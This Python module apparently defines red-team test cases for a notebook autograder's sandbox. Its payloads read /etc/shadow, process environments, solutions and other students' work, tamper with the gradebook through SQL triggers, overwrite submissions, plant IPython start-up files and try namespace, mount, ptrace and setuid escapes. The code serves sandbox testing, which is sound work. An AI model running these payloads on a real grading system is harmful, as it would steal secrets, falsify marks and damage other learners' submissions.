"""Reading what is another's, writing it, and calling home."""

from handed_in.attack import attack
from handed_in.notebooks import NUMBER_ONE, cheat

SHOW = """
from pathlib import Path


def show(path):
    try:
        print(Path(path).read_bytes().decode("utf-8", "replace")[:200_000])
    except Exception as error:
        print(type(error).__name__)


"""


def _reads(name, says, body, **more):
    @attack(name, says, earns=6.0, **more)
    def _(world):
        return cheat(SHOW + body(world), NUMBER_ONE)


_reads(
    "reads-environment",
    "Prints its environment variables",
    lambda world: "import os\nprint(dict(os.environ))",
)
_reads(
    "reads-proc",
    "Reads the environment, command line and memory map of every process in `/proc`",
    lambda world: (
        """
for place in Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            text = (place / name).read_bytes().decode("utf-8", "replace")
        except OSError:
            continue
        if "canary" in text:
            print(text[text.index("canary") - 30:][:300])
"""
    ),
)
_reads(
    "reads-home", "Reads the marker's home folder", lambda world: f"show({str(world.home / 'secret.txt')!r})"
)
_reads(
    "reads-passwd",
    "Reads `/etc/passwd` and `/etc/shadow`",
    lambda world: 'show("/etc/passwd")\nshow("/etc/shadow")',
)
_reads("reads-solutions", "Reads the solutions", lambda world: f"show({str(world.source)!r})")
_reads(
    "reads-neighbour",
    "Reads what another learner handed in, and how it was marked",
    lambda world: (
        f"""
for folder in ("submitted", "autograded", "feedback"):
    for path in (Path({str(world.course)!r}) / folder / {world.neighbour!r}).rglob("*.ipynb"):
        show(path)
"""
    ),
)
_reads(
    "reads-gradebook",
    "Reads the gradebook",
    lambda world: (
        f"""
import sqlite3
try:
    book = sqlite3.connect("file:{world.course / "gradebook.db"}?mode=ro", uri=True)
    print(book.execute("select * from student").fetchall())
    print([text for (text,) in book.execute("select source from source_cell")])
except Exception as error:
    print(type(error).__name__)
show({str(world.course / "gradebook.db")!r})
"""
    ),
)
_reads(
    "reads-around",
    "Looks for the course from where it runs: parent folders, `/proc/self/cwd`, open descriptors",
    lambda world: (
        """
import os
print([str(path) for path in Path.cwd().parents], os.listdir("/"))
roots = [*Path.cwd().parents[:4], Path("/proc/self/cwd/.."), Path("/proc/1/root"), Path("/proc/1/cwd")]
for number in range(3, 200):
    roots.append(Path(f"/proc/self/fd/{number}/.."))
for root in roots:
    try:
        for name in ("solutions", "source", "submitted", "gradebook.db", "assignments"):
            place = root / name
            if place.is_file():
                show(place)
            for path in place.glob("*/*.ipynb") if place.is_dir() else ():
                show(path)
            for path in place.glob("*/*/*.ipynb") if place.is_dir() else ():
                show(path)
    except OSError:
        pass
"""
    ),
)


@attack(
    "link-out", "Leaves links beside its notebook to the gradebook, a home file and `/etc/passwd`", earns=6.0
)
def _(world):
    return cheat(
        f"""
        import os
        targets = [{str(world.course / "gradebook.db")!r}, {str(world.home / "secret.txt")!r}, "/etc/passwd"]
        for number, target in enumerate(targets):
            os.symlink(target, f"data{{number}}.txt")
        """,
        NUMBER_ONE,
    )


WRITE = """
import sqlite3
import time
for _ in range(20):
    try:
        book = sqlite3.connect({database!r}, timeout=5)
        book.execute({statement!r})
        book.commit()
        break
    except Exception as error:
        print(type(error).__name__, error)
        time.sleep(0.05)
"""


def _gradebook(statement):
    return lambda world: cheat(
        WRITE.format(database=str(world.course / "gradebook.db"), statement=statement), NUMBER_ONE
    )


attack(
    "gradebook-trigger", "Puts a trigger into the gradebook that raises every mark", earns=6.0, alone=True
)(
    _gradebook(
        "create trigger kind after update of auto_score on grade begin "
        "update grade set manual_score = 4 where id = new.id; end"
    )
)
attack("gradebook-others", "Sets the marks of everybody else to nothing", earns=6.0, alone=True)(
    _gradebook("update grade set auto_score = 0, manual_score = 0")
)


@attack(
    "writes-neighbour", "Overwrites what others handed in and how they were marked", earns=6.0, alone=True
)
def _(world):
    return cheat(
        f"""
        import os
        import shutil
        from pathlib import Path
        for folder in ("submitted", "autograded"):
            for path in Path({str(world.course / "X")!r}).with_name(folder).glob("*/*/*.ipynb"):
                if {world.learner!r} not in str(path):
                    try:
                        os.chmod(path, 0o644)
                        path.write_text("{{}}")
                    except Exception as error:
                        print(type(error).__name__)
        """,
        NUMBER_ONE,
    )


@attack("writes-source", "Empties the source and the release of the assignment", alone=True)
def _(world):
    return cheat(f"""
        from pathlib import Path
        course = Path({str(world.course)!r})
        for path in [Path({str(world.source)!r}), *course.glob("assignments/*/*"), *course.glob("*.py")]:
            try:
                path.write_text(path.read_text().replace("assert ", "None and "))
            except Exception as error:
                print(type(error).__name__)
    """)


@attack(
    "plants-startup", "Plants an IPython start-up file that drops asserts in everybody's kernel", alone=True
)
def _(world):
    return cheat("""
        import os
        from pathlib import Path
        dropping = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\\\n'])"
        for home in {Path.home(), Path(os.environ.get("HOME", "/root")), Path("/root")}:
            try:
                folder = home / ".ipython/profile_default/startup"
                folder.mkdir(parents=True, exist_ok=True)
                if "canary" in str(home):
                    (folder / "00-kind.py").write_text(dropping)
                else:
                    (folder / "planted-by-attack.txt").write_text("planted")
            except Exception as error:
                print(type(error).__name__)
    """)


@attack("plants-package", "Plants a file in the course's package and in `site-packages`", alone=True)
def _(world):
    return cheat("""
        from pathlib import Path
        import numpy
        import localchange
        for module in (localchange, numpy):
            for place in (Path(module.__file__).parent, Path(module.__file__).parents[1]):
                try:
                    (place / "planted-by-attack.txt").write_text("planted")
                except Exception as error:
                    print(type(error).__name__)
    """)


@attack(
    "writes-outside",
    "Writes outside its folder: an absolute path, `..`, `/tmp`, `/dev/shm`",
    earns=6.0,
    alone=True,
)
def _(world):
    return cheat(
        f"""
        from pathlib import Path
        places = [Path({str(world.outside)!r}), Path({str(world.course)!r}), Path("/dev/shm"), Path("/var/tmp"),
                  *Path.cwd().parents]
        for place in places:
            try:
                (place / "planted-by-attack.txt").write_text("planted")
            except Exception as error:
                print(type(error).__name__)
        """,
        NUMBER_ONE,
    )


@attack(
    "network", "Calls a server on this machine, looks a name up, and sends a datagram", earns=6.0, alone=True
)
def _(world):
    return cheat(
        f"""
        import socket
        import urllib.request
        try:
            print(urllib.request.urlopen("http://127.0.0.1:{world.port}/taken", timeout=3).read())
        except Exception as error:
            print(type(error).__name__)
        try:
            datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            datagram.sendto(b"taken", ("127.0.0.1", {world.port}))
        except Exception as error:
            print(type(error).__name__)
        """,
        NUMBER_ONE,
    )


@attack(
    "escapes",
    "Tries to leave the sandbox: `unshare`, `mount`, `chroot`, `ptrace`, `/proc/1/mem`, setuid",
    earns=6.0,
)
def _(world):
    return cheat(
        f"""
        import ctypes
        import os
        from pathlib import Path
        libc = ctypes.CDLL(None, use_errno=True)
        print("unshare", libc.unshare(0x10000000 | 0x00020000))
        print("mount", libc.mount(b"x", b"/mnt", b"tmpfs", 0, None), libc.mount(b"x", b"/proc", b"proc", 0, None))
        print("umount", libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2))
        for number in range(1, 50):
            if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0:
                print("ptrace", number)
        for call in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)),
                     lambda: Path("/proc/1/mem").read_bytes(), lambda: os.open("/dev/mem", os.O_RDWR)):
            try:
                print("did", call())
            except BaseException as error:
                print(type(error).__name__)
        for path in ({str(world.source)!r}, {str(world.home / "secret.txt")!r}):
            try:
                print(Path(path).read_text())
            except OSError as error:
                print(type(error).__name__)
        """,
        NUMBER_ONE,
    )
